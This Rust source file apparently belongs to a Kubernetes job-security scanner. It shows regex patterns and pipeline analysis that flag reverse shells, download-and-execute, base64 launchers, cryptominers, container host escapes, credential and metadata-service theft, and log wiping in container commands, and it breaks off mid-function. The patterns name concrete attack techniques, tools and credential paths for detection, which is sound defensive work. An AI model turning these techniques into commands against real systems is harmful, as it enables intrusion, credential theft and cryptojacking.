//! Reading command lines like an attacker would write them.
//!
//! Text from `command`+`args`, env values and lifecycle hooks is scanned for download-and-execute,
//! base64 launchers, reverse shells, miners, host escapes, credential access and trace wiping.
//! Every pattern is a `regex` (linear time, no backtracking), compiled once; pipelines are split
//! into stages so "downloader piped into an interpreter" is judged on structure rather than on
//! one fragile expression. Long base64 literals are decoded and the decoded text scanned again,
//! with bounds on count, size and depth.

use base64::Engine as _;
use jobwarden_model::Severity;
use regex::Regex;
use std::sync::{LazyLock, OnceLock};

/// One thing found in a command text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandHit {
    /// The check id (`template.command.*`).
    pub check: &'static str,
    /// How bad this instance is.
    pub severity: Severity,
    /// What was recognised, for the message.
    pub what: &'static str,
    /// The text that matched, shortened to one line.
    pub snippet: String,
    /// Set when the hit was in base64-decoded text.
    pub decoded: bool,
}

/// What the scanner needs to know about the container around the text.
#[derive(Debug, Clone, Default)]
pub struct ScanContext<'a> {
    /// Container-side mount paths backed by hostPath `/` (where the host root is visible).
    pub host_root_mounts: Vec<String>,
    /// Hosts whose downloads are trusted (suffix match).
    pub trusted_download_hosts: &'a [String],
}

/// Result of scanning one text: hits plus the decoded base64 payloads seen.
#[derive(Debug, Clone, Default)]
pub struct ScanResult {
    /// Everything found, at most one per (check, what).
    pub hits: Vec<CommandHit>,
    /// Texts decoded from base64 literals (for summaries and derived fields).
    pub decoded: Vec<String>,
}

/// Limits on base64 re-scanning so hostile input cannot make us work forever.
const MAX_DECODE_DEPTH: usize = 2;
const MAX_LITERALS_PER_TEXT: usize = 8;
const MAX_DECODED_BYTES: usize = 64 * 1024;
const MIN_BASE64_LEN: usize = 20;
/// Texts longer than this are scanned only up to it (a pod spec is limited to ~1.5 MB anyway).
const MAX_SCAN_BYTES: usize = 256 * 1024;

fn re(pattern: &str) -> Regex {
    // Patterns are constants checked by the `all_patterns_compile` test.
    Regex::new(pattern).unwrap_or_else(|e| panic!("bad built-in pattern {pattern}: {e}"))
}

/// A simple "regex means this" rule.
struct Pattern {
    check: &'static str,
    severity: Severity,
    what: &'static str,
    regex: &'static str,
}

const fn pat(
    check: &'static str,
    severity: Severity,
    what: &'static str,
    regex: &'static str,
) -> Pattern {
    Pattern {
        check,
        severity,
        what,
        regex,
    }
}

const DOWNLOAD_EXEC: &str = "template.command.downloadExec";
const BASE64_SHELL: &str = "template.command.base64Shell";
const REVERSE_SHELL: &str = "template.command.reverseShell";
const MINER: &str = "template.command.miner";
const HOST_ESCAPE: &str = "template.command.hostEscape";
const CREDENTIALS: &str = "template.command.credentialAccess";
const ANTI_FORENSICS: &str = "template.command.antiForensics";
const CLUSTER_ABUSE: &str = "template.command.clusterAbuse";

use Severity::{Critical, High, Low, Medium};

static PATTERNS: &[Pattern] = &[
    // download and execute without a pipe
    pat(
        DOWNLOAD_EXEC,
        High,
        "shell runs the output of a download",
        r#"(?i)(?:\b(?:eval|source|(?:ba|da|z|k)?sh|python[0-9.]*|perl|ruby|node|php)|(?:^|\s)\.)(?:\s+-[a-zA-Z])?\s+["']?(?:\$\(|<\(|`)\s*(?:curl|wget|fetch)\b"#,
    ),
    pat(
        DOWNLOAD_EXEC,
        High,
        "interpreter fetches and executes code",
        r"(?is)\bpython[0-9.]*\b.*\b(?:urllib|urlopen|requests\.get|http\.client)\b.*\b(?:exec|eval)\s*\(",
    ),
    pat(
        DOWNLOAD_EXEC,
        High,
        "interpreter fetches and executes code",
        r"(?is)\bperl\b.*\b(?:LWP::|HTTP::Tiny|IO::Socket)\b.*\b(?:eval|system|exec)\b",
    ),
    pat(
        DOWNLOAD_EXEC,
        High,
        "interpreter fetches and executes code",
        r"(?is)\bphp\b.*\bfile_get_contents\s*\(\s*['\x22]https?://.*\b(?:eval|system|exec|passthru)\s*\(",
    ),
    // base64 into a shell without a pipe
    pat(
        BASE64_SHELL,
        High,
        "shell runs base64-decoded text",
        r#"(?i)\b(?:eval|(?:ba|da|z|k)?sh(?:\s+-c)?)\s+["']?(?:\$\(|`)[^)`]*\bbase64\s+(?:-d|--decode|-D)\b"#,
    ),
    pat(
        BASE64_SHELL,
        High,
        "interpreter executes base64-decoded code",
        r"(?i)\b(?:exec|eval)\s*\(\s*(?:base64\.b64decode|__import__\(\s*['\x22]base64['\x22]\s*\)\.b64decode|decode_base64|base64_decode|atob|Buffer\.from)",
    ),
    // reverse shells
    pat(
        REVERSE_SHELL,
        Critical,
        "shell redirected to a /dev/tcp socket",
        r"(?:>&|&>|<>|<&)\s*/dev/(?:tcp|udp)/",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "interactive shell over /dev/tcp",
        r"\b(?:ba|z|k|da)?sh\s+-i\b[^\n]*/dev/(?:tcp|udp)/",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "interactive shell wired to a redirection",
        r"\b(?:ba|z|k|da)?sh\s+-i\b[^\n;]*?(?:[0-9]>&[0-9]|>&\s*/|&>\s*/|<&\s*[0-9]|\|\s*(?:nc|ncat|netcat|telnet|openssl)\b)",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "netcat executing a program",
        r"(?:^|[\s/;|&(`'\x22])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\s[^\n;|&]*?)?\s(?:-[a-zA-Z]*e\s*\S|-c\s+\S|--exec\b|--sh-exec\b|--lua-exec\b)",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "socat executing a program",
        r"(?i)\bsocat\b[^\n;]*?\b(?:exec|system):",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "socat with a pty",
        r"(?i)\bsocat\b[^\n;]*?\bpty\b",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "named pipe wired to a network tool",
        r"(?s)\b(?:mkfifo|mknod\s+\S+\s+p)\b.*\b(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b",
    ),
    pat(REVERSE_SHELL, Critical, "awk network shell", r"/inet/tcp/"),
    pat(
        REVERSE_SHELL,
        Critical,
        "script-language socket shell",
        r"(?i)\bfsockopen\s*\(|\bTCPSocket\.(?:new|open)\b|-rsocket\b",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "perl socket shell",
        r"(?s)\bperl\b.*\b(?:socket\s*\(|IO::Socket::INET).*\b(?:exec|system)\b",
    ),
    pat(
        REVERSE_SHELL,
        Critical,
        "remote shell tool",
        r"(?i)\b(?:tmate|gs-netcat|pwncat(?:-cs)?)\b|\bgsocket\b|\bGS_ARGS=",
    ),
    pat(
        REVERSE_SHELL,
        High,
        "exposes the pod through a tunnel service",
        r"(?i)\bngrok\s+(?:tcp|http|tls|start)\b|\bcloudflared\b[^\n;|]*?\btunnel\b|\bchisel\s+(?:client|server)\b|\bfrpc\b|\bbore\s+local\b",
    ),
    // miners
    pat(
        MINER,
        High,
        "cryptominer binary",
        r"(?i)\b(?:xmrig(?:-notls|-cuda)?|xmr-stak(?:-cpu|-rx)?|minerd|cpuminer(?:-multi|-opt)?|ccminer|cgminer|bfgminer|lolminer|nbminer|phoenixminer|ethminer|nanominer|srbminer(?:-multi)?|teamredminer|gminer|kdevtmpfsi|kinsing|xmr-node-proxy)\b",
    ),
    pat(
        MINER,
        High,
        "stratum mining URL",
        r"(?i)\bstratum\d?(?:\+(?:tcp|ssl|tls|udp))?://",
    ),
    pat(
        MINER,
        High,
        "miner option",
        r"(?i)--donate-level\b|--cpu-max-threads-hint\b|--wallet-address\b|--daemon-rpc-address\b|\bdero1[0-9a-z]{50,}\b|--randomx-(?:mode|1gb-pages|no-numa)\b|--coin[=\s]+(?:monero|xmr|zephyr|rvn|etc|eth)\b|\s-a\s+(?:rx/0|rx/wow|cn/r|cn-heavy/\w+|randomx|cryptonight|kawpow|ethash|argon2/chukwa)\b",
    ),
    pat(
        MINER,
        High,
        "mining pool host",
        r"(?i)\b(?:nanopool\.org|minexmr\.com|supportxmr\.com|moneroocean\.stream|hashvault\.pro|2miners\.com|f2pool\.com|nicehash\.com|herominers\.com|c3pool\.com|xmrpool\.eu|minergate\.com|ethermine\.org|dwarfpool\.com|monerohash\.com|unmineable\.com|zpool\.ca|mining-dutch\.nl|prohashing\.com|viabtc\.com|antpool\.com|hiveon\.net|flypool\.org|xmrfast\.com|crypto-pool\.fr|p2pool\.io)\b",
    ),
    pat(
        MINER,
        High,
        "miner pointed at a pool",
        r"(?i)(?:\s-o|--url)[\s=]+(?:stratum[\w+]*://)?(?:[\w-]+\.)*(?:\w+-)*(?:pool|xmr|monero|mining|miner|xmrpool|moneropool)(?:[.-][\w.-]*)?:\d{2,5}\b",
    ),
    pat(
        MINER,
        High,
        "Monero wallet address",
        r"\b[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b",
    ),
    // host escape
    pat(
        HOST_ESCAPE,
        Critical,
        "nsenter into the host's PID 1",
        r"\bnsenter\b[^\n;|&]*?(?:-t|--target)[\s=]*1\b",
    ),
    pat(
        HOST_ESCAPE,
        Critical,
        "reaches into the host through /proc/1",
        r"/proc/1/(?:root|ns/|cwd)",
    ),
    pat(
        HOST_ESCAPE,
        Critical,
        "chroot into the host filesystem",
        r"\bchroot\s+['\x22]?/(?:host|hostfs|host-root|hostroot|rootfs|node|mnt/host|mnt/root|proc/1/root)(?:/|\s|$|['\x22])",
    ),
    pat(
        HOST_ESCAPE,
        High,
        "talks to a container runtime socket",
        r"(?i)\b(?:docker|ctr|crictl|nerdctl|podman|curl|socat|nc|ncat)\b[^\n;|]*?(?:docker|containerd|crio|cri-dockerd|podman|dockershim)\.sock\b",
    ),
    pat(
        HOST_ESCAPE,
        High,
        "points a client at a container runtime socket",
        r"(?i)(?:DOCKER_HOST|CONTAINER_RUNTIME_ENDPOINT|CONTAINERD_ADDRESS)=\S*\.sock\b",
    ),
    pat(
        HOST_ESCAPE,
        Critical,
        "starts a privileged container through the runtime",
        r"\b(?:docker|nerdctl|podman)\s+(?:run|create)\b[^\n;]*?(?:--privileged|--pid[=\s]+host|-v\s*/:/|--volume[=\s]+/:/)",
    ),
    pat(
        HOST_ESCAPE,
        Critical,
        "mounts a host disk",
        r"\bmount\b[^\n;|]*?\s/dev/(?:sd[a-z]|nvme\d|xvd[a-z]|vd[a-z]|dm-\d|mapper/|root\b)",
    ),
    pat(
        HOST_ESCAPE,
        Critical,
        "kernel escape primitive",
        r"\brelease_agent\b|\bnotify_on_release\b|/proc/sys/kernel/core_pattern|/sys/kernel/uevent_helper|/proc/sysrq-trigger",
    ),
    pat(
        HOST_ESCAPE,
        High,
        "loads a kernel module",
        r"\b(?:insmod|modprobe)\s+[\w./-]",
    ),
    // credentials
    pat(
        CREDENTIALS,
        Medium,
        "reads cloud credentials from the instance metadata service",
        r"(?i)(?:169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2\b|fd00:ec2::254|100\.100\.100\.200|metadata\.azure\.com)[^\s'\x22]*?(?:security-credentials|/token\b|service-accounts|identity/oauth2|/ram/security|/v2/credentials)",
    ),
    pat(
        CREDENTIALS,
        Low,
        "queries the cloud instance metadata service",
        r"(?i)169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2\b|fd00:ec2::254|100\.100\.100\.200|metadata\.azure\.com",
    ),
    // the job's own API access turned against the cluster
    pat(
        CLUSTER_ABUSE,
        High,
        "grants cluster-admin",
        r"\bkubectl\b[^\n;|]*?\bcreate\s+(?:clusterrolebinding|rolebinding)\b[^\n;|]*?\bcluster-admin\b",
    ),
    pat(
        CLUSTER_ABUSE,
        High,
        "impersonates a system identity",
        r"\bkubectl\b[^\n;|]*?\s--as(?:-group)?[=\s]+['\x22]?system:(?:masters|serviceaccount:kube-system:|kube-|node:|admin)",
    ),
    pat(
        CLUSTER_ABUSE,
        High,
        "starts a privileged or host-level pod",
        r"\bkubectl\b[^\n;|]*?\b(?:run|debug)\b[^\n;|]*?(?:--privileged\b|\x22hostPID\x22\s*:\s*true|\x22privileged\x22\s*:\s*true|\bnode/)",
    ),
    pat(
        CLUSTER_ABUSE,
        Low,
        "reads secrets across namespaces",
        r"\bkubectl\b[^\n;|]*?\bget\s+secrets?\b[^\n;|]*?(?:\s-A\b|--all-namespaces)|/api/v1/secrets\b",
    ),
    pat(
        ANTI_FORENSICS,
        Medium,
        "deletes Kubernetes events",
        r"\bkubectl\b[^\n;|]*?\bdelete\s+(?:events?|ev)\b",
    ),
    // trace wiping
    pat(
        ANTI_FORENSICS,
        Medium,
        "wipes shell history or system logs",
        r"\bhistory\s+-c\b|\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null|\bHISTSIZE=0\b|\bshred\b[^\n;]*?/var/log|\brm\s+-[a-zA-Z]*r[a-zA-Z]*\s+/var/log/?(?:\s|$|\*)|>\s*/var/log/(?:auth\.log|secure|syslog|messages|wtmp|btmp|lastlog|audit/audit\.log)\b",
    ),
];

/// The patterns, matched on the text's bytes with ASCII classes: `\b`, `\s`, `\w` and `(?i)`
/// as the shell reads them (shell syntax is ASCII; a non-ASCII letter next to a word only adds
/// a boundary, so it can add matches, never lose one). Unicode classes made the set cost about
/// 18 ms to compile at every start; ASCII ones cost under 1 ms.
struct Compiled {
    set: regex::bytes::RegexSet,
    /// Each pattern alone, to locate its snippet; compiled the first time the set reports it.
    each: Vec<OnceLock<regex::bytes::Regex>>,
}

impl Compiled {
    fn each(&self, index: usize) -> Option<&regex::bytes::Regex> {
        let pattern = PATTERNS.get(index)?;
        Some(self.each.get(index)?.get_or_init(|| {
            // Checked by the `all_patterns_compile` test.
            regex::bytes::RegexBuilder::new(pattern.regex)
                .unicode(false)
                .build()
                .unwrap_or_else(|e| panic!("bad built-in pattern {}: {e}", pattern.regex))
        }))
    }
}

static COMPILED: LazyLock<Compiled> = LazyLock::new(|| Compiled {
    set: regex::bytes::RegexSetBuilder::new(PATTERNS.iter().map(|p| p.regex))
        .unicode(false)
        .build()
        .unwrap_or_else(|e| panic!("bad built-in pattern set: {e}")),
    each: PATTERNS.iter().map(|_| OnceLock::new()).collect(),
});

static NODE_CREDENTIALS: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"/etc/kubernetes/(?:admin|super-admin|controller-manager|scheduler|kubelet|bootstrap-kubelet)\.conf|/etc/kubernetes/pki/|/var/lib/kubelet/(?:pki|kubeconfig)|/etc/shadow\b|/root/\.kube/config|/etc/rancher/k3s/k3s\.yaml|/var/run/secrets/kubernetes\.io/serviceaccount/token",
    )
});
static EXFIL: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(?:curl|wget)\b[^\n;|]*?(?:\s-d\s|\s--data(?:-binary|-raw|-urlencode)?[\s=]|\s-T\s|\s--upload-file\b|\s-F\s|\s--form\b|\s--post-(?:data|file)\b)|\|\s*(?:nc|ncat|netcat|socat)\b|\b(?:scp|rsync)\b[^\n;]*@",
    )
});
static MINER_PORT: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)(?:\s-o|--url)[\s=]+(?:[a-z0-9+]+://)?[\w.-]+:(?:3333|4444|5555|7777|14444|14433|45560|45700|10128|10343|20128|3357|9999)\b",
    )
});
static MINER_USER: LazyLock<Regex> = LazyLock::new(|| {
    re(r"(?:\s-u|--user)[\s=]+\S{20,}|\s-p\s+x\b|\s-k\b|--keepalive\b|--tls\b|--nicehash\b")
});
static PYTHON_SOCKET: LazyLock<Regex> = LazyLock::new(|| re(r"\bsocket\b"));
static PYTHON_CONNECT: LazyLock<Regex> = LazyLock::new(|| re(r"\.connect\s*\("));
static PYTHON_SPAWN: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\bpty\.spawn\s*\(|\bos\.dup2\s*\(|\bsubprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['\x22]/bin/(?:ba)?sh",
    )
});
static CHROOT: LazyLock<Regex> = LazyLock::new(|| re(r#"\bchroot\s+['"]?(/[^\s'";|&]*)"#));
static URL: LazyLock<Regex> =
    LazyLock::new(|| re(r#"(?i)\b(?:https?|ftp)://([^\s/:'"?#@]+)(?::\d+)?(/[^\s'"`;|&()<>]*)?"#));
static CHMOD_EXEC: LazyLock<Regex> =
    LazyLock::new(|| re(r"\bchmod\s+(?:-\w+\s+)*(?:[0-7]*[1357][0-7]{0,2}\b|[ugoa]*\+[rwxst]*x)"));
static IFS: LazyLock<Regex> = LazyLock::new(|| re(r"\$\{IFS[^}]{0,8}\}|\$IFS\b"));
static ESCAPED_BYTES: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?:\\x[0-9a-fA-F]{2}|\\[0-7]{3}){6,}"));
static HEX_LITERAL: LazyLock<Regex> = LazyLock::new(|| re(r"\b(?:[0-9a-fA-F]{2}){12,}\b"));
static BASE64_LITERAL: LazyLock<Regex> =
    LazyLock::new(|| re(r"[A-Za-z0-9+/]{20,}={0,2}|[A-Za-z0-9_-]{20,}={0,2}"));

/// Tools that fetch from the network.
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "aria2c",
    "lwp-request",
    "lwp-download",
    "tftp",
];
/// Tools that connect to a remote host and stream it.
const NET_TOOLS: &[&str] = &["nc", "ncat", "netcat", "telnet", "socat", "s_client"];

/// Scan one text (a joined command line, an env value, a hook command).
pub fn scan(text: &str, ctx: &ScanContext<'_>) -> ScanResult {
    let mut result = ScanResult::default();
    let mut budget = MAX_DECODED_BYTES;
    scan_into(text, ctx, false, MAX_DECODE_DEPTH, &mut budget, &mut result);
    // Quote and backslash games (`cu''rl`, `w\get`, `${IFS}`) defeat word patterns; scan the
    // text again with them undone.
    let plain = deobfuscate(text);
    if plain != text {
        scan_into(
            &plain,
            ctx,
            false,
            MAX_DECODE_DEPTH,
            &mut budget,
            &mut result,
        );
    }
    result
}

/// Undo cheap shell obfuscation: drop quotes and word-internal backslashes, turn `$IFS` into a
/// space.
pub fn deobfuscate(text: &str) -> String {
    let spaced = IFS.replace_all(text, " ");
    let mut out = String::with_capacity(spaced.len());
    let mut chars = spaced.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' => {}
            '\\' if chars.peek().is_some_and(|n| n.is_ascii_alphanumeric()) => {}
            _ => out.push(c),
        }
    }
    out
}

fn truncate_at_char(text: &str, max: usize) -> &str {
    if text.len() <= max {
        return text;
    }
    let mut end = max;
    while end > 0 && !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(..end).unwrap_or("")
}

/// The match with some context on each side, cut on character boundaries.
fn around(text: &str, start: usize, end: usize) -> &str {
    let mut from = start.saturating_sub(30);
    while from > 0 && !text.is_char_boundary(from) {
        from -= 1;
    }
    let mut to = (end + 50).min(text.len());
    while to < text.len() && !text.is_char_boundary(to) {
        to += 1;
    }
    text.get(from..to).unwrap_or("")
}

/// Shorten a snippet to one readable line.
pub fn one_line(text: &str, max: usize) -> String {
    let flat: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let trimmed = flat.trim();
    if trimmed.chars().count() <= max {
        trimmed.to_string()
    } else {
        let cut: String = trimmed.chars().take(max).collect();
        format!("{cut}…")
    }
}

fn push(result: &mut ScanResult, hit: CommandHit) {
    if let Some(existing) = result
        .hits
        .iter_mut()
        .find(|h| h.check == hit.check && h.what == hit.what)
    {
        if hit.severity > existing.severity {
            *existing = hit;
        }
        return;
    }
    result.hits.push(hit);
}

fn scan_into(
    text: &str,
    ctx: &ScanContext<'_>,
    decoded: bool,
    depth: usize,
    budget: &mut usize,
    result: &mut ScanResult,
) {
    let text = truncate_at_char(text, MAX_SCAN_BYTES);
    let hit = |check, severity, what, snippet: &str| CommandHit {
        check,
        severity,
        what,
        snippet: one_line(snippet, 120),
        decoded,
    };

    let compiled = &*COMPILED;
    for index in compiled.set.matches(text.as_bytes()).iter() {
        let (Some(p), Some(r)) = (PATTERNS.get(index), compiled.each(index)) else {
            continue;
        };
        let snippet = r
            .find(text.as_bytes())
            .map_or("", |m| around(text, m.start(), m.end()));
        push(result, hit(p.check, p.severity, p.what, snippet));
    }

    // Miner ports are only meaningful together with miner-style credentials.
    if let Some(m) = MINER_PORT.find(text)
        && MINER_USER.is_match(text)
    {
        push(
            result,
            hit(MINER, High, "miner pointed at a pool port", m.as_str()),
        );
    }
    // Python reverse shell: a socket that connects and hands a shell its descriptors.
    if PYTHON_SOCKET.is_match(text)
        && PYTHON_CONNECT.is_match(text)
        && let Some(m) = PYTHON_SPAWN.find(text)
    {
        push(
            result,
            hit(
                REVERSE_SHELL,
                Critical,
                "socket wired to a spawned shell",
                m.as_str(),
            ),
        );
    }
    // Node credentials: reading them is low, sending them out is high.
    if let Some(m) = NODE_CREDENTIALS.find(text) {
        let sa_token = m.as_str().contains("serviceaccount/token");
        if EXFIL.is_match(text) {
            push(
                result,
                hit(
                    CREDENTIALS,
                    High,
                    "reads credentials and sends data out",
                    m.as_str(),
                ),
            );
        } else if !sa_token {
            push(
                result,
                hit(CREDENTIALS, Low, "reads node credentials", m.as_str()),
            );
        }
    }
    // chroot into a path where the host root is mounted.
    for caps in CHROOT.captures_iter(text) {
        let Some(target) = caps.get(1) else { continue };
        let target = target.as_str().trim_end_matches('/');
        let target = if target.is_empty() { "/" } else { target };
        if ctx.host_root_mounts.iter().any(|m| m == target) {
            push(
                result,
                hit(
                    HOST_ESCAPE,
                    Critical,
                    "chroot into the host root mount",
                    caps.get(0).map_or("", |m| m.as_str()),
                ),
            );
        }
    }
    scan_pipelines(text, ctx, &hit, result);
    scan_download_to_file(text, ctx, &hit, result);

    if depth > 0 {
        decode_and_rescan(text, ctx, depth, budget, result);
    }
}

/// The first word of a pipeline stage, skipping `sudo`, `env`, `exec`, `nohup`, `busybox`,
/// `timeout N`, variable assignments and directory prefixes.
fn command_words(stage: &str) -> Vec<&str> {
    let mut words: Vec<&str> = stage
        .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '`' | '(' | ')' | '{' | '}'))
        .filter(|w| !w.is_empty() && *w != "$")
        .collect();
    while let Some(first) = words.first() {
        let base = first.rsplit('/').next().unwrap_or(first);
        let skip = match base {
            "sudo" | "env" | "exec" | "nohup" | "busybox" | "command" | "stdbuf" | "nice"
            | "time" => 1,
            "timeout" => 2,
            _ if first.contains('=') && !first.starts_with('-') => 1,
            _ => 0,
        };
        if skip == 0 {
            break;
        }
        words.drain(..skip.min(words.len()));
    }
    words
}

fn base_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "tcsh" | "csh" | "fish"
    )
}

fn is_script_interpreter(name: &str) -> bool {
    name.starts_with("python") || matches!(name, "perl" | "ruby" | "php" | "node" | "lua")
}

/// Does this stage execute what arrives on its standard input?
fn executes_stdin(stage: &str) -> bool {
    let words = command_words(stage);
    let Some(first) = words.first() else {
        return false;
    };
    let name = base_name(first);
    let next = words.get(1).copied();
    if is_shell(name) {
        // `| sh -c 'script'` runs the script, with the download only as its input.
        return next != Some("-c");
    }
    if is_script_interpreter(name) {
        // `| python3`, `| python3 -`, `| perl -- args` read the program from stdin;
        // `| python -c '...json...'` or `| python -m json.tool` treat it as data.
        return matches!(next, None | Some("-") | Some("--"))
            || next.is_some_and(|w| !w.starts_with('-'));
    }
    false
}

fn stage_has_word(stage: &str, words: &[&str]) -> bool {
    stage
        .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | '`' | '(' | ')' | '$'))
        .any(|w| words.contains(&base_name(w)))
}

fn is_base64_decode_stage(stage: &str) -> bool {
    let words = command_words(stage);
    let Some(first) = words.first() else {
        return false;
    };
    let rest = words.get(1..).unwrap_or(&[]);
    match base_name(first) {
        "base64" | "base32" => rest
            .iter()
            .any(|w| matches!(*w, "-d" | "--decode" | "-D" | "-di" | "-id")),
        "openssl" => rest.iter().any(|w| w.contains("base64")) && rest.contains(&"-d"),
        "xxd" => rest.iter().any(|w| w.starts_with("-r")),
        // printf '\x63\x75...' and echo -e '\143...' decode escapes just the same
        "printf" | "echo" => ESCAPED_BYTES.is_match(stage),
        _ => false,
    }
}

/// Split into commands (`;`, `&&`, `||`, newlines) and those into pipeline stages.
fn pipelines(text: &str) -> impl Iterator<Item = Vec<&str>> {
    text.split(['\n', ';'])
        .flat_map(|c| c.split("&&"))
        .flat_map(|c| c.split("||"))
        .map(|c| c.split('|').collect::<Vec<_>>())
        .filter(|stages| stages.len() > 1)
}

fn scan_pipelines<F>(text: &str, ctx: &ScanContext<'_>, hit: &F, result: &mut ScanResult)
where
    F: Fn(&'static str, Severity, &'static str, &str) -> CommandHit,
{
    for stages in pipelines(text) {
        let Some(exec_at) = stages
            .iter()
            .skip(1)
            .position(|s| executes_stdin(s))
            .map(|i| i + 1)
        else {
            continue;
        };
        let before = stages.get(..exec_at).unwrap_or(&[]);
        let snippet = stages.join("|");
        if before.iter().any(|s| stage_has_word(s, DOWNLOADERS)) {
            let severity = if all_urls_trusted(&snippet, ctx.trusted_download_hosts) {
                Low
            } else {
                High
            };
            push(
                result,
                hit(
                    DOWNLOAD_EXEC,
                    severity,
                    "download piped into an interpreter",
                    &snippet,
                ),
            );
        }
        if before.iter().any(|s| is_base64_decode_stage(s)) {
            push(
                result,
                hit(
                    BASE64_SHELL,
                    High,
                    "decoded base64/hex text piped into an interpreter",
                    &snippet,
                ),
            );
        }
        if before.iter().any(|s| stage_has_word(s, NET_TOOLS)) {
            push(
                result,
                hit(
                    REVERSE_SHELL,
                    Critical,
                    "network stream piped into a shell",
                    &snippet,
                ),
            );
        }
    }
}

/// Every URL host in the text is on the trusted list (and there is at least one URL).
fn all_urls_trusted(text: &str, trusted: &[String]) -> bool {
    let mut any = false;
    for caps in URL.captures_iter(text) {
        any = true;
        let host = caps.get(1).map_or("", |m| m.as_str()).to_ascii_lowercase();
        let path = caps.get(2).map_or("", |m| m.as_str());
        let full = format!("{host}{path}");
        let ok = trusted.iter().any(|t| {
            let t = t.to_ascii_lowercase();
            if t.contains('/') {
                full.starts_with(&t)
            } else {
                host == t || host.ends_with(&format!(".{t}"))
            }
        });
        if !ok {
            return false;
        }
    }
    any
}

/// Split a script into simple commands (`;`, `&&`, `||`, `|`, newlines).
fn simple_commands(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\n', ';', '|', '&'])
        .filter(|c| !c.trim().is_empty())
}

/// The files a `curl`/`wget` command writes, when it writes any: explicit outputs (`-o FILE`,
/// `-O FILE` for wget, `> FILE`) and implicit ones (wget's default, curl `-O`: the URL's last
/// path segment). Returns `None` when the command is not a downloader.
fn downloaded_files(command: &str) -> Option<Vec<String>> {
    let words = command_words(command);
    let tool = base_name(words.first()?);
    if tool != "curl" && tool != "wget" {
        return None;
    }
    let mut files = Vec::new();
    let mut urls = Vec::new();
    let mut to_stdout = false;
    let mut remote_name = false;
    let mut iter = words.iter().skip(1).peekable();
    while let Some(w) = iter.next() {
        let next_is_file = |flag: &str| -> bool {
            match tool {
                "curl" => {
                    flag == "--output"
                        || (!flag.starts_with("--") && flag.starts_with('-') && flag.ends_with('o'))
                }
                _ => {
                    flag == "--output-document"
                        || (!flag.starts_with("--") && flag.starts_with('-') && flag.ends_with('O'))
                }
            }
        };
        if let Some(value) = w
            .strip_prefix("--output=")
            .or_else(|| w.strip_prefix("--output-document="))
        {
            if value == "-" {
                to_stdout = true;
            } else {
                files.push(value.to_string());
            }
        } else if next_is_file(w) || *w == ">" || *w == ">>" {
            match iter.next() {
                Some(&"-") => to_stdout = true,
                Some(f) => files.push((*f).to_string()),
                None => {}
            }
        } else if let Some(f) = w
            .strip_prefix(">>")
            .or_else(|| w.strip_prefix('>'))
            .filter(|f| !f.is_empty() && !f.starts_with('&'))
        {
            files.push(f.to_string());
        } else if tool == "curl"
            && (*w == "--remote-name"
                || (!w.starts_with("--") && w.starts_with('-') && w.contains('O')))
        {
            remote_name = true;
        } else if w.contains("://") {
            urls.push(*w);
        } else if tool == "wget" && *w == "--spider" {
            to_stdout = true;
        }
    }
    let implicit = (tool == "wget" && !to_stdout && files.is_empty()) || remote_name;
    if implicit {
        for url in urls {
            let path = url.split(['?', '#']).next().unwrap_or(url);
            let name = base_name(path.trim_end_matches('/'));
            if name.len() > 1 && !name.contains(':') {
                files.push(name.to_string());
            }
        }
    }
    files.retain(|f| f != "/dev/null" && f != "-");
    Some(files)
}

/// Is the file saved into a directory searched by PATH?
fn in_path_dir(file: &str) -> bool {
    let dir = file.rsplit_once('/').map_or("", |(d, _)| d);
    matches!(
        dir,
        "/usr/local/bin" | "/usr/local/sbin" | "/usr/bin" | "/usr/sbin" | "/bin" | "/sbin"
    )
}

/// `curl -o x URL; chmod +x x; ./x` and friends: a downloaded file that is then made executable
/// or run.
fn scan_download_to_file<F>(text: &str, ctx: &ScanContext<'_>, hit: &F, result: &mut ScanResult)
where
    F: Fn(&'static str, Severity, &'static str, &str) -> CommandHit,
{
    let mut files: Vec<String> = Vec::new();
    let mut first_download: Option<usize> = None;
    for command in simple_commands(text) {
        let Some(written) = downloaded_files(command) else {
            continue;
        };
        if !written.is_empty() && first_download.is_none() {
            // Offset of this command within the text (it is a subslice of it).
            first_download =
                Some((command.as_ptr() as usize).saturating_sub(text.as_ptr() as usize));
        }
        files.extend(written);
    }
    let Some(start) = first_download else {
        return;
    };
    let after_download = text.get(start..).unwrap_or("");
    // `./x`, `/tmp/x`, `sh x`, `chmod +x x` name the downloaded file; a bare `x` runs whatever is
    // first on PATH, which is the download only when it was saved into a PATH directory.
    let names_download = |word: &str, bare_command: bool| {
        files.iter().any(|f| {
            word == f.as_str()
                || (base_name(word) == base_name(f)
                    && (word.contains('/')
                        || (!bare_command && !f.contains('/'))
                        || (bare_command && in_path_dir(f))))
        })
    };
    let mut executed = false;
    for command in simple_commands(after_download) {
        let words = command_words(command);
